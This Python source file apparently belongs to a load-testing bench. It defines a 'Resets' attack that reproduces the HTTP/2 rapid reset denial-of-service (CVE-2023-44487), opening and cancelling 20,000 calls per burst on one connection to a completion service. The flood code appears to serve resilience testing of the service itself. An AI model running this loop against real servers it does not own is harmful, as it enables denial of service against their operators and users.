"""Calls that are opened and reset at once, as in CVE-2023-44487 (HTTP/2 rapid reset)."""

import asyncio

from completion.v1 import completion_pb2 as pb
from loadtest.bench.attacks.attack import Attack
from loadtest.bench.attacks.http2 import Http2Connection, framed

_RESETS = 20_000
_EVERY_S = 2.0
_AT_ONCE = 200


class Resets(Attack):
    """Bursts of 20,000 calls on one connection, each with a request and a reset."""

    name = "resets"
    about = "20,000 calls opened and reset as fast as the connection takes them, every 2 s"

    async def run(self) -> None:
        """See Attack."""
        connection = await Http2Connection.open(self.address)
        data = framed(pb.CompleteRequest(session_id="reset", sequence=1, prefix="x = ").SerializeToString())
        while connection.is_open:
            for number in range(_RESETS):
                stream = connection.call("Complete")
                await stream.send(data, ends=True)
                stream.reset()
                self.counts["reset"] += 1
                if number % _AT_ONCE == 0:
                    await asyncio.sleep(0)
                if not connection.is_open:
                    break
            await asyncio.sleep(_EVERY_S)
